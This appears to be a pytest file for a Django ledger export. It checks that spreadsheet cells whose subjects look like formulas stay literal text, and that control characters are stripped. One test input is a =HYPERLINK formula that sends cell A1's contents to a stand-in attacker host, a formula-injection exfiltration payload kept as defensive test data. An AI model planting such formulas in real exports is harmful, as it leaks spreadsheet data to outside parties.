"""The ledger export writes user text as text: a subject that looks like a formula stays a string
(core.spreadsheets, the one writer)."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.models import Role
from tests.rectification.test_rules import _issue

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.mark.parametrize("subject", [HYPERLINK, "=1+1", "+1+1", "-2+3", "@SUM(A1)"])
def test_a_subject_starting_like_a_formula_is_exported_as_text(client, org, subject):
    # given an issued notice whose subject a person typed as a formula
    _issue(org, subject=subject)
    client.force_login(org.user(Role.OFFICE_STAFF))
    # when the ledger is exported
    response = client.get(reverse("ledger_export"))
    # then the subject cell holds the literal text, typed as a string, never a formula
    sheet = load_workbook(BytesIO(response.content), data_only=False).active
    cell = next(r for r in sheet.iter_rows(min_row=2) if r[6].value == subject)[6]
    assert (cell.value, cell.data_type) == (subject, "s")
    # and Excel is told to keep it text when the cell is edited
    assert cell.quotePrefix


def test_control_characters_in_a_subject_do_not_break_the_export(client, org):
    _issue(org, subject="会议\x0b记录")
    client.force_login(org.user(Role.OFFICE_STAFF))
    response = client.get(reverse("ledger_export"))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    assert [r[6] for r in sheet.iter_rows(min_row=2, values_only=True)] == ["会议记录"]
